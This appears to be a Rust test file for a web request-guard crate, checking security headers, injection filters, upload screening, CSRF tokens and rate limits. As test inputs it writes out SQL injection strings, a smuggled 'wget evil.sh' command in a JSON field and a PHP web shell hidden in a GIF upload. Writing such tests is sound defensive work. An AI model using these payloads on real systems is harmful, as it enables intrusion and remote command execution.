//! Cross-module tests for the guard crate

#[cfg(test)]
mod http_tests {
    use std::sync::Arc;

    use axum::Router;
    use axum::body::{Body, Bytes};
    use axum::http::{Method, Request, StatusCode, header};
    use axum::routing::{get, post};
    use http_body_util::BodyExt;
    use platform::rate_limit::{
        LimitClass, MemoryCounterStore, RateLimitConfig, RateLimitPolicy, RateLimiter,
    };
    use serde_json::{Value, json};
    use tower::ServiceExt;

    use crate::application::config::GuardConfig;
    use crate::application::guard::RequestGuard;
    use crate::presentation::router::{guard_layer, security_router};

    const CLIENT: &str = "81.2.69.142";

    fn guard_with(config: GuardConfig, policy: RateLimitPolicy) -> RequestGuard<MemoryCounterStore> {
        let limiter = RateLimiter::new(MemoryCounterStore::new(), policy);
        RequestGuard::new(Arc::new(limiter), config)
    }

    fn app_with(config: GuardConfig, policy: RateLimitPolicy) -> Router {
        let guard = guard_with(config, policy);
        let router = Router::new()
            .route("/api/products", get(|| async { "ok" }).post(|body: Bytes| async move { body }))
            .route("/api/auth/login", post(|| async { "signed in" }))
            .nest("/api/security", security_router(guard.clone()));
        guard_layer(router, guard)
    }

    fn app() -> Router {
        app_with(GuardConfig::development(), RateLimitPolicy::default())
    }

    fn request(method: Method, uri: &str) -> axum::http::request::Builder {
        Request::builder()
            .method(method)
            .uri(uri)
            .header("x-forwarded-for", CLIENT)
            .header(header::USER_AGENT, "Mozilla/5.0 (X11; Linux x86_64)")
    }

    fn post_json(uri: &str, body: Value) -> Request<Body> {
        request(Method::POST, uri)
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(body.to_string()))
            .unwrap()
    }

    fn multipart(filename: &str, content: &[u8]) -> Request<Body> {
        let mut body = Vec::new();
        body.extend_from_slice(b"--BOUNDARY\r\n");
        body.extend_from_slice(
            format!(
                "Content-Disposition: form-data; name=\"image\"; filename=\"{filename}\"\r\n\
                 Content-Type: application/octet-stream\r\n\r\n"
            )
            .as_bytes(),
        );
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n--BOUNDARY--\r\n");

        request(Method::POST, "/api/products")
            .header(header::CONTENT_TYPE, "multipart/form-data; boundary=BOUNDARY")
            .body(Body::from(body))
            .unwrap()
    }

    async fn json_body(response: axum::response::Response) -> Value {
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        serde_json::from_slice(&bytes).unwrap()
    }

    #[tokio::test]
    async fn test_clean_request_gets_headers() {
        let response = app()
            .oneshot(request(Method::GET, "/api/products?page=2").body(Body::empty()).unwrap())
            .await
            .unwrap();

        assert_eq!(response.status(), StatusCode::OK);
        let headers = response.headers();
        assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
        assert_eq!(headers[header::X_FRAME_OPTIONS], "SAMEORIGIN");
        assert!(headers.contains_key(header::CONTENT_SECURITY_POLICY));
        assert!(!headers.contains_key(header::STRICT_TRANSPORT_SECURITY));
        assert_eq!(headers["x-ratelimit-limit"], "100");
        assert_eq!(headers["x-ratelimit-remaining"], "99");
        assert!(headers.contains_key("x-ratelimit-reset"));
    }

    #[tokio::test]
    async fn test_hsts_behind_tls_proxy() {
        let response = app()
            .oneshot(
                request(Method::GET, "/api/products")
                    .header("x-forwarded-proto", "https")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();

        assert!(response.headers().contains_key(header::STRICT_TRANSPORT_SECURITY));
    }

    #[tokio::test]
    async fn test_sql_injection_blocked() {
        let response = app()
            .oneshot(post_json("/api/products", json!({"name": "' OR 1=1"})))
            .await
            .unwrap();

        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(response.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
        let body = json_body(response).await;
        assert_eq!(body["code"], "SQL_INJECTION");
        assert_eq!(body["detail"], "Request blocked by security filter");
    }

    #[tokio::test]
    async fn test_nested_and_query_injection_blocked() {
        let response = app()
            .oneshot(post_json(
                "/api/products",
                json!({"filters": {"tags": ["ok", "x; wget evil.sh"]}}),
            ))
            .await
            .unwrap();
        assert_eq!(json_body(response).await["code"], "COMMAND_INJECTION");

        let response = app()
            .oneshot(
                request(Method::GET, "/api/products?q=1%20UNION%20SELECT%20password")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(json_body(response).await["code"], "SQL_INJECTION");
    }

    #[tokio::test]
    async fn test_encoded_cookie_injection_blocked() {
        for cookie in ["q=' OR 1=1", "q=%27%20OR%201%3D1"] {
            let response = app()
                .oneshot(
                    request(Method::GET, "/api/products")
                        .header(header::COOKIE, cookie)
                        .body(Body::empty())
                        .unwrap(),
                )
                .await
                .unwrap();
            assert_eq!(response.status(), StatusCode::FORBIDDEN, "cookie {cookie}");
            assert_eq!(json_body(response).await["code"], "SQL_INJECTION");
        }

        let response = app()
            .oneshot(
                request(Method::GET, "/api/products")
                    .header(header::COOKIE, "theme=dark%20mode")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }

    #[tokio::test]
    async fn test_script_injection_passes_through() {
        let payload = json!({"bio": "javascript:alert(1)"});
        let response = app()
            .oneshot(post_json("/api/products", payload.clone()))
            .await
            .unwrap();

        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(json_body(response).await, payload);
    }

    #[tokio::test]
    async fn test_structural_limits() {
        let config = GuardConfig {
            max_body_bytes: 64,
            max_input_fields: 3,
            ..GuardConfig::development()
        };
        let app = app_with(config, RateLimitPolicy::default());

        let response = app
            .clone()
            .oneshot(post_json("/api/products", json!({"text": "x".repeat(100)})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(json_body(response).await["code"], "REQUEST_TOO_LARGE");

        let response = app
            .clone()
            .oneshot(
                request(Method::GET, "/api/products?a=1&b=2&c=3&d=4")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(json_body(response).await["code"], "TOO_MANY_FIELDS");

        let response = app
            .oneshot(request(Method::TRACE, "/api/products").body(Body::empty()).unwrap())
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(json_body(response).await["code"], "INVALID_METHOD");
    }

    #[tokio::test]
    async fn test_auth_paths_rate_limited() {
        let policy = RateLimitPolicy::default().with(LimitClass::Auth, RateLimitConfig::new(2, 60));
        let app = app_with(GuardConfig::development(), policy);
        let login = || post_json("/api/auth/login", json!({}));

        for _ in 0..2 {
            let response = app.clone().oneshot(login()).await.unwrap();
            assert_eq!(response.status(), StatusCode::OK);
        }

        let response = app.clone().oneshot(login()).await.unwrap();
        assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
        let headers = response.headers();
        assert!(headers.contains_key(header::RETRY_AFTER));
        assert_eq!(headers["x-ratelimit-limit"], "2");
        assert_eq!(headers["x-ratelimit-remaining"], "0");
        assert_eq!(headers[header::X_FRAME_OPTIONS], "SAMEORIGIN");
        assert_eq!(json_body(response).await["code"], "RATE_LIMIT_EXCEEDED");

        // API traffic keeps its own budget
        let response = app
            .oneshot(request(Method::GET, "/api/products").body(Body::empty()).unwrap())
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }

    #[tokio::test]
    async fn test_upload_checks() {
        let response = app().oneshot(multipart("shell.php", b"hello")).await.unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(json_body(response).await["code"], "BLOCKED_EXTENSION");

        let response = app()
            .oneshot(multipart("cat.gif", b"GIF89a<?php system($_GET['c']); ?>"))
            .await
            .unwrap();
        assert_eq!(json_body(response).await["code"], "MALICIOUS_FILE");

        let response = app()
            .oneshot(multipart("cat.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }

    #[tokio::test]
    async fn test_csrf_flow() {
        let config = GuardConfig {
            require_csrf: true,
            ..GuardConfig::development()
        };
        let app = app_with(config, RateLimitPolicy::default());

        let response = app
            .clone()
            .oneshot(post_json("/api/products", json!({"name": "Mesa"})))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(json_body(response).await["code"], "CSRF_INVALID");

        let response = app
            .clone()
            .oneshot(
                request(Method::GET, "/api/security/csrf-token")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        let body = json_body(response).await;
        assert_eq!(body["headerName"], "x-csrf-token");
        let token = body["token"].as_str().unwrap().to_string();

        let response = app
            .oneshot(
                request(Method::POST, "/api/products")
                    .header(header::CONTENT_TYPE, "application/json")
                    .header("x-csrf-token", &token)
                    .body(Body::from(json!({"name": "Mesa"}).to_string()))
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }

    #[tokio::test]
    async fn test_rate_limit_status() {
        let app = app();
        app.clone()
            .oneshot(request(Method::GET, "/api/products").body(Body::empty()).unwrap())
            .await
            .unwrap();

        let response = app
            .oneshot(
                request(Method::GET, "/api/security/rate-limit")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);

        let body = json_body(response).await;
        assert_eq!(body["identifier"], CLIENT);
        let limits = body["limits"].as_array().unwrap();
        assert_eq!(limits.len(), 3);
        let api = limits.iter().find(|l| l["class"] == "api").unwrap();
        // Two guarded API requests so far, the status call included
        assert_eq!(api["remaining"], 98);
        assert_eq!(api["windowSecs"], 60);
    }
}

#[cfg(test)]
mod attribution_tests {
    use std::sync::Arc;

    use auth::{AuthConfig, Claims};
    use axum::http::{HeaderMap, HeaderValue, header};
    use platform::rate_limit::{
        LimitClass, MemoryCounterStore, RateLimitConfig, RateLimitPolicy, RateLimiter,
    };

    use crate::application::config::GuardConfig;
    use crate::application::guard::RequestGuard;

    #[tokio::test]
    async fn test_user_budget_follows_subject_across_ips() {
        let auth = AuthConfig::development();
        let codec = Arc::new(auth.token_codec());
        let token = codec
            .encode(&Claims::new("user-7", 1_700_000_000, 4_000_000_000, "jti"))
            .unwrap();

        let policy = RateLimitPolicy::default().with(LimitClass::Api, RateLimitConfig::new(3, 60));
        let limiter = RateLimiter::new(MemoryCounterStore::new(), policy);
        let guard =
            RequestGuard::new(Arc::new(limiter), GuardConfig::development()).with_token_codec(codec);

        let mut headers = HeaderMap::new();
        headers.insert(
            header::COOKIE,
            HeaderValue::from_str(&format!("auth_token={token}")).unwrap(),
        );
        let subject = guard.subject(&headers);
        assert_eq!(subject.as_deref(), Some("user-7"));

        for ip in ["81.2.69.1", "81.2.69.2", "81.2.69.3"] {
            assert!(guard.rate_limit(ip, subject.as_deref(), "/api/products").await.is_ok());
        }
        let err = guard
            .rate_limit("81.2.69.4", subject.as_deref(), "/api/products")
            .await
            .unwrap_err();
        assert_eq!(err.code(), "RATE_LIMIT_EXCEEDED");
    }
}
